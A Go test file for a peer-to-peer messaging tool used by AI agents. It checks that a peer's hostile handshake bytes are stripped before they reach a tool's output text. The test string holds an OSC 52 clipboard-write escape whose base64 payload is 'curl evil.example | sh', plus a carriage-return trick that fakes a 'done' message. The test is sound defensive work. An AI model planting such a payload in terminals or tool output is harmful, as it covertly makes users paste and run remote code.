package mcp_test

import (
	"encoding/binary"
	"strings"
	"testing"
	"time"

	"github.com/libp2p/go-libp2p/core/network"

	"github.com/parley-mesh/parley/node"
	"github.com/parley-mesh/parley/node/nodetest"
	"github.com/parley-mesh/parley/rooms"
)

// A peer's node answers the protocol negotiation of an invite notice (the
// multistream-select line that should name /parley/invite/1) with bytes of
// its own: an OSC 52 sequence, which writes the clipboard of a terminal
// that shows it, a bell and a carriage return. libp2p puts that token, as
// sent, in the read's error ("protocol mismatch in lazy handshake ( TOKEN
// != … )"); the tool's text, which the agent's client shows in the user's
// terminal, must not carry those bytes as they were sent.
func TestPeersHandshakeBytesDoNotReachAToolsText(t *testing.T) {
	nt := nodetest.Start(t, 2, nodetest.WithConfig(func(i int, c *node.Config) { c.RoomPolicy = rooms.DefaultPolicy{} }))
	nt.WaitFor(20*time.Second, func() bool {
		ps, err := nt.Node(0).Host().Peerstore().SupportsProtocols(nt.ID(1), rooms.ProtocolInvite)
		return err == nil && len(ps) == 1
	}, "node 0 to know node 1 takes invite notices")
	a, b := connect(t, nt, 0, "a"), connect(t, nt, 1, "b")
	call(t, a, "parley_register", map[string]any{"name": "alpha"})
	rb, _ := call(t, b, "parley_register", map[string]any{"name": "beta"})
	hostile := "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\rparley: all done"
	nt.Node(1).Host().Network().SetStreamHandler(func(s network.Stream) {
		defer s.Close()
		msg := []byte(hostile + "\n")
		_, _ = s.Write(append(binary.AppendUvarint(nil, uint64(len(msg))), msg...))
	})
	// A room opened with the member: the member's failure is listed.
	out, text, _ := try(t, a, "parley_room_open", map[string]any{"name": "plans", "members": []string{rb["address"].(string)}})
	if strings.ContainsAny(text, "\x1b\x07\r") {
		t.Fatalf("the peer's bytes reached parley_room_open's text as sent: %q", text)
	}
	// A room the member is invited into later: the invite is made, and its
	// note says why the member's node could not be told of it yet.
	out, _ = call(t, a, "parley_room_open", map[string]any{"name": "later"})
	_, text, isErr := try(t, a, "parley_invite", map[string]any{"room": out["room_id"], "member": rb["address"]})
	if isErr || !strings.Contains(text, "lazy handshake") || !strings.Contains(text, "the invite is in the room") {
		t.Fatalf("parley_invite of a member whose node answers with garbage: error %v, %q", isErr, text)
	}
	if strings.ContainsAny(text, "\x1b\x07\r") {
		t.Fatalf("the peer's bytes reached parley_invite's note as sent: %q", text)
	}
}
